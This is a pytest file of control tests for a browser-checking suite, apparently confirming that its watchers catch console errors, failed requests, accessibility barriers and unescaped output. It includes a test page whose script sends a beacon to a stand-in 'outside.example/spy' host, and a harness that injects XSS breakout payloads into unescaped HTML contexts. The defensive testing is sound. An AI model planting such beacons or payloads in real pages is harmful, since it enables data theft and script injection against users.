"""Controls: the checks of the other tests find faults on pages that have them, and a good page passes."""

from collections.abc import Iterator
from contextlib import closing, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Browser

from tests.browser.axe import Axe
from tests.browser.camera import Camera
from tests.browser.payloads import PAYLOADS, check_untripped, set_tripwire
from tests.browser.watching import Visitor, a_visitor

_PAGE = """<!doctype html><html lang="en"><head><title>A page</title><link rel="icon" href="data:,">
<meta name="viewport" content="width=device-width, initial-scale=1"></head>
<body><main><h1>A page</h1>{}</main></body></html>"""

_FAULTS = {
    "/error": ("<script>console.error('on purpose')</script>", "console error: on purpose"),
    "/warning": ("<script>console.warn('on purpose')</script>", "console warning: on purpose"),
    "/thrown": ("<script>throw new Error('on purpose')</script>", "uncaught error: on purpose"),
    "/rejected": ("<script>Promise.reject(new Error('unheard'))</script>", "uncaught error: unheard"),
    "/outside": (
        "<img alt='' src='http://outside.example/x.png'>",
        "request to another host: GET http://outside.example/x.png",
    ),
    "/beacon": (
        "<script>navigator.sendBeacon('http://outside.example/spy', 'x')</script>",
        "request to another host: POST http://outside.example/spy",
    ),
    "/failed": ("<img alt='' src='/cut-off'>", "request failed: GET"),
    "/fault": ("<img alt='' src='/500'>", "status 500: GET"),
    "/missing": ("<img alt='' src='/404'>", "console error: Failed to load resource"),
    "/dialog": ("<script>alert('on purpose')</script>", "dialog: alert 'on purpose'"),
    "/forbidden": ("<p style='color: red'>x</p>", "console error: .*Content Security Policy"),
}
_BARRIERS = {
    "/contrast": ("<p style='color: #bbb; background: #fff'>gray</p>", "color-contrast"),
    "/label": ("<input type='text' name='q'>", "label"),
    "/button": ("<button><svg width='9' height='9'></svg></button>", "button-name"),
}
_GOOD = {
    "/good": "<p>Nothing is wrong here.</p>",
    "/wide": "<p style='width: 400px'>This is wider than a phone.</p>",
}
_BODIES = _GOOD | {path: body for path, (body, _) in (_FAULTS | _BARRIERS).items()}
#: Places in a page where a text could be unescaped, and the beginning of payloads that break out of each.
_HOLDERS = {
    "<p>{}</p>": "<",
    "<title>{}</title>": "</title>",
    "<textarea>{}</textarea>": "</textarea>",
    "<style>{}</style>": "</style>",
    "<!-- {} -->": "-->",
    '<input value="{}">': '"',
    "<input value='{}'>": "' ",
    "<input value={}>": "x data-xss",
    '<a href="{}">x</a>': "java",
    "<script>'{}'</script>": "';",
}


class _Pages(BaseHTTPRequestHandler):
    """Serves pages with faults."""

    def do_GET(self) -> None:
        if self.path == "/cut-off":
            self.close_connection = True
            return
        body = _PAGE.format(_BODIES.get(self.path, "")).encode()
        self.send_response(int(self.path[1:]) if self.path[1:].isdigit() else 200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        if self.path == "/forbidden":
            self.send_header("Content-Security-Policy", "default-src 'none'; img-src data:")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        """Log nothing."""


@pytest.fixture(scope="module")
def bad_server() -> Iterator[str]:
    """The address of a server with faulty pages."""
    with ThreadingHTTPServer(("127.0.0.1", 0), _Pages) as serving:
        thread = Thread(target=serving.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{serving.server_port}"
        serving.shutdown()
        thread.join()


@contextmanager
def at(browser: Browser, base_url: str, path: str) -> Iterator[Visitor]:
    with a_visitor(browser, base_url) as visitor:
        visitor.page.goto(path)
        yield visitor


@pytest.mark.parametrize("path", _FAULTS)
def test_a_page_with_a_fault_does_not_pass(browser: Browser, bad_server: str, path: str) -> None:
    with pytest.raises(AssertionError, match=_FAULTS[path][1]), at(browser, bad_server, path):
        pass


def test_a_page_without_a_fault_passes(browser: Browser, bad_server: str, axe: Axe, tmp_path: Path) -> None:
    with at(browser, bad_server, "/good") as visitor:
        axe.check(visitor.page)
        Camera(tmp_path).take(visitor.page, "control")
    assert {one.name for one in tmp_path.iterdir()} == {
        f"control-{width}-{scheme}.png" for width in (1280, 390) for scheme in ("light", "dark")
    }


def test_a_refusal_that_is_expected_passes(browser: Browser, bad_server: str) -> None:
    with a_visitor(browser, bad_server) as visitor:
        visitor.watch.expect(404)
        visitor.page.goto("/404")


@pytest.mark.parametrize("path", _BARRIERS)
def test_a_page_with_a_barrier_does_not_pass(browser: Browser, bad_server: str, axe: Axe, path: str) -> None:
    with at(browser, bad_server, path) as visitor, pytest.raises(AssertionError, match=_BARRIERS[path][1]):
        axe.check(visitor.page)


def test_a_page_that_is_wider_than_a_phone_does_not_pass(
    browser: Browser, bad_server: str, camera: Camera
) -> None:
    with at(browser, bad_server, "/wide") as visitor, pytest.raises(AssertionError, match="408 px wide"):
        camera.take(visitor.page, "wide")


def test_a_payload_that_is_not_escaped_does_not_pass(browser: Browser, bad_server: str) -> None:
    tried = 0
    with closing(browser.new_context(base_url=bad_server)) as context:
        set_tripwire(context)
        page = context.new_page()
        page.goto("/good")
        check_untripped(page)
        for holder, part in _HOLDERS.items():
            for payload in (one for one in PAYLOADS if one.lower().startswith(part)):
                page.set_content(holder.replace("{}", payload))
                with pytest.raises(AssertionError, match=r"has run|has made elements"):
                    check_untripped(page)
                tried += 1
    assert tried > 45
